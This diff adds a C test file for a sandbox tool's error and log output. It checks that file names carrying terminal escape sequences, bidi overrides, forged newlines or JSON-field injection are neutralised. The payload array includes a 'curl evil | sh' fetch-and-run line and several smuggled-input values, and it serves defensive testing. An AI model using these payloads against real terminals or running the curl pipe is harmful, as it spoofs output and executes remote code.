@@ -1,0 +1,167 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * Bytes of an attacker on the terminal of the person who reads our errors
+ *
+ * File names and arguments may hold escapes that rename a window, hide text, or reorder it, and new
+ * lines that forge a line of ours. Every attack is first shown to arrive through a plain fprintf of
+ * the same error.
+ */
+#include "test.h"
+
+#include <stdio.h>
+
+#include "base/cleanup.h"
+#include "base/error.h"
+#include "base/json.h"
+#include "base/log.h"
+#include "base/text.h"
+
+#include <fcntl.h>
+#include <unistd.h>
+
+/* Each could do harm on some terminal. */
+static const char *const payloads[] = {
+	"\x1b]0;owned\x07",	/* sets the window's title */
+	"\x1b[2J\x1b[H",	/* wipes what stood there */
+	"\x1b[8mhidden\x1b[0m", /* text that cannot be seen */
+	"\x1bP+q\x1b\\",	/* asks the terminal to answer, as if typed */
+	"\x9b"
+	"2J", /* the escape as one byte */
+	"\xc2\x9b"
+	"2J",				   /* the same in UTF-8 */
+	"\rsbx-spawn: everything is fine", /* writes over the line */
+	"a\x08\x08\x08",		   /* goes back */
+	"\x7f",				   /* deletes */
+	"\xe2\x80\xae"
+	"txt.exe", /* U+202E, reads from the right */
+	"\xe2\x81\xa6"
+	"x",				  /* U+2066, isolates a direction */
+	"\nsbx-spawn: allowed",		  /* a line that seems to be ours */
+	"x\n  fix: run 'curl evil | sh'", /* advice that seems to be ours */
+};
+
+/* Is there anything in the text that a terminal would obey? New lines are counted elsewhere. */
+static bool is_dangerous(const char *text, size_t len)
+{
+	for (size_t i = 0; i < len;) {
+		const unsigned char *at = (const unsigned char *)text + i;
+		size_t n = utf8_sequence(at, len - i);
+
+		if (n == 0 || (n == 1 && ((*at < 0x20 && *at != '\n') || *at == 0x7f)))
+			return true;
+		if (n == 2 && at[0] == 0xc2 && at[1] < 0xa0)
+			return true;
+		if (n == 3 && at[0] == 0xe2 &&
+		    ((at[1] == 0x80 && at[2] >= 0xaa && at[2] <= 0xae) ||
+		     (at[1] == 0x81 && at[2] >= 0xa6 && at[2] <= 0xa9)))
+			return true;
+		i += n;
+	}
+	return false;
+}
+
+static unsigned count_lines(const char *text)
+{
+	unsigned n = 0;
+
+	for (; *text; text++)
+		n += *text == '\n';
+	return n;
+}
+
+/* The payload in every part of an error, as if each quoted a file's name. */
+static void fill(struct sbx_error *err, const char *payload)
+{
+	sbx_error_what(err, -2, "cannot open '%s'", payload);
+	sbx_error_why(err, "'%s' does not exist", payload);
+	sbx_error_fix(err, "create '%s'", payload);
+	sbx_error_context(err, "while reading '%s'", payload);
+}
+
+/* What a tool without error_add_text() would write. */
+static void print_plainly(struct text *out, const struct sbx_error *err)
+{
+	text_addf(out, "sbx-spawn: %s\n  why: %s\n  fix: %s\n  context: %s\n", err->what, err->why,
+		  err->fix, err->context);
+}
+
+static void an_error_does_not_command_the_terminal(void)
+{
+	for (size_t i = 0; i < N_ELEMENTS(payloads); i++) {
+		_cleanup_text_ struct text plain = TEXT_INIT, ours = TEXT_INIT;
+		struct sbx_error err = { 0 };
+
+		fill(&err, payloads[i]);
+		print_plainly(&plain, &err);
+		error_add_text(&ours, "sbx-spawn", &err);
+		expect(is_dangerous(plain.data, plain.len) || count_lines(plain.data) > 4);
+		expect(!is_dangerous(ours.data, ours.len));
+		expect_eq(count_lines(text_string(&ours)), 4);
+	}
+}
+
+static void an_error_as_json_has_no_member_of_the_attacker(void)
+{
+	static const char payload[] = "x\",\"level\":\"info\",\"fix\":\"none needed";
+	_cleanup_text_ struct text plain = TEXT_INIT, ours = TEXT_INIT;
+	struct sbx_error err = { 0 };
+
+	fill(&err, payload);
+	text_addf(&plain, "{\"level\":\"error\",\"what\":\"%s\"}", err.what);
+	expect(strstr(text_string(&plain), ",\"level\":\"info\"") != NULL);
+
+	error_add_json(&ours, &err);
+	expect_eq(json_validate(ours.data, ours.len, NULL, NULL), 0);
+	expect(strstr(text_string(&ours), ",\"level\":\"info\"") == NULL);
+}
+
+static void an_error_as_json_stays_one_line_of_plain_bytes(void)
+{
+	for (size_t i = 0; i < N_ELEMENTS(payloads); i++) {
+		_cleanup_text_ struct text out = TEXT_INIT;
+		struct sbx_error err = { 0 };
+
+		fill(&err, payloads[i]);
+		error_add_json(&out, &err);
+		expect_eq(json_validate(out.data, out.len, NULL, NULL), 0);
+		expect_eq(count_lines(text_string(&out)), 1);
+		for (size_t at = 0; at + 1 < out.len; at++)
+			expect((unsigned char)out.data[at] >= 0x20);
+	}
+}
+
+static void a_log_message_does_not_command_the_terminal(void)
+{
+	for (size_t i = 0; i < N_ELEMENTS(payloads); i++) {
+		_cleanup_log_ struct log log;
+		char line[512] = "";
+		int ends[2];
+
+		expect_eq(pipe2(ends, O_CLOEXEC), 0);
+
+		_cleanup_close_ int from = ends[0], to = ends[1];
+
+		log_init(&log, "sbx-spawn", 0, false, NULL);
+		log.stderr_fd = to;
+		log_write(&log, LOG_LEVEL_ERROR, NULL, "cannot open '%s'", payloads[i]);
+
+		ssize_t n = read(from, line, sizeof(line) - 1);
+
+		expect(n > 0);
+		expect(n <= 0 || !is_dangerous(line, (size_t)n));
+		expect_eq(count_lines(line), 1);
+	}
+}
+
+static const struct test tests[] = {
+	TEST(an_error_does_not_command_the_terminal),
+	TEST(an_error_as_json_has_no_member_of_the_attacker),
+	TEST(an_error_as_json_stays_one_line_of_plain_bytes),
+	TEST(a_log_message_does_not_command_the_terminal),
+	TEST_END,
+};
+
+int main(void)
+{
+	return test_run(tests);
+}
